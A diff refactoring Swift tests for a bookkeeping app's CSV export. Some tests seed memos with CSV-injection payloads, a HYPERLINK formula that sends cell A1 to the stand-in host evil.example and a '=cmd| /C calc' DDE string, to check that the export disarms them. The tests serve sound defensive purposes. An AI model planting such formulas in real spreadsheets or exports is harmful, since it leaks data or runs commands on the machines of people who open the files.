@@ -24,6 +24,15 @@ import Testing
         return file
     }
 
+    /// The lines of the CSV export of a 100-transaction sample after `damage`.
+    private func csvLines(after damage: (Database) throws -> Void) throws -> [Substring] {
+        let file = try Damage.sample(in: folder, transactions: 100)
+        try Damage.apply(to: file, damage)
+        let path = folder.file("books.csv")
+        try JournalExport.export(file: file, format: .csv, to: path)
+        return try String(contentsOfFile: path, encoding: .utf8).split(separator: "\n")
+    }
+
     @Test func csvWritesBytesThatAreNotUTF8AsReplacementCharacters() throws {
         let file = try bytesThatAreNotUTF8()
         let path = folder.file("books.csv")
@@ -67,14 +76,10 @@ import Testing
 
     /// GRDB's Int64 subscript reads '1x' as 1: the split would land in Checking.
     @Test func anAccountIdThatIsNotAnIntegerNamesNoAccount() throws {
-        let file = try Damage.sample(in: folder, transactions: 100)
-        try Damage.apply(to: file) { db in
+        let lines = try csvLines { db in
             try db.execute(sql: "UPDATE splits SET account_id = '1x' WHERE id = 1")
             try db.execute(sql: "UPDATE splits SET account_id = 20.5 WHERE id = 4")
         }
-        let path = folder.file("books.csv")
-        try JournalExport.export(file: file, format: .csv, to: path)
-        let lines = try String(contentsOfFile: path, encoding: .utf8).split(separator: "\n")
         #expect(
             lines[1...4] == [
                 "2023-01-01,1,journal,,Opening balances,Missing account '1x',,45000.00,USD,,r",
@@ -108,8 +113,7 @@ import Testing
 
     /// Text a spreadsheet would run as a formula gets a leading '; amounts keep their minus.
     @Test func csvDisarmsFormulas() throws {
-        let file = try Damage.sample(in: folder, transactions: 100)
-        try Damage.apply(to: file) { db in
+        let lines = try csvLines { db in
             try db.execute(
                 sql: "UPDATE transactions SET memo = '=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")' WHERE id = 1")
             try db.execute(sql: "UPDATE splits SET memo = '+1 call' WHERE id = 1")
@@ -118,9 +122,6 @@ import Testing
             try db.execute(sql: "UPDATE splits SET memo = char(13) || 'cr' WHERE id = 4")
             try db.execute(sql: "UPDATE accounts SET number = '-3000' WHERE id = 20")
         }
-        let path = folder.file("books.csv")
-        try JournalExport.export(file: file, format: .csv, to: path)
-        let lines = try String(contentsOfFile: path, encoding: .utf8).split(separator: "\n")
         let payee = "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""
         #expect(
             lines[1...4] == [
@@ -138,14 +139,10 @@ import Testing
     /// Excel with ';' as its list separator splits an unquoted field at the semicolon,
     /// and the second cell starts with '='.
     @Test func csvQuotesSemicolonsAndTabs() throws {
-        let file = try Damage.sample(in: folder, transactions: 100)
-        try Damage.apply(to: file) { db in
+        let lines = try csvLines { db in
             try db.execute(sql: "UPDATE splits SET memo = 'a;=cmd|'' /C calc''!A0' WHERE id = 1")
             try db.execute(sql: "UPDATE splits SET memo = 'a' || char(9) || '=1+1' WHERE id = 2")
         }
-        let path = folder.file("books.csv")
-        try JournalExport.export(file: file, format: .csv, to: path)
-        let lines = try String(contentsOfFile: path, encoding: .utf8).split(separator: "\n")
         #expect(
             lines[1...2] == [
                 "2023-01-01,1,journal,,Opening balances,Checking,1000,45000.00,USD,\"a;=cmd|' /C calc'!A0\",r",
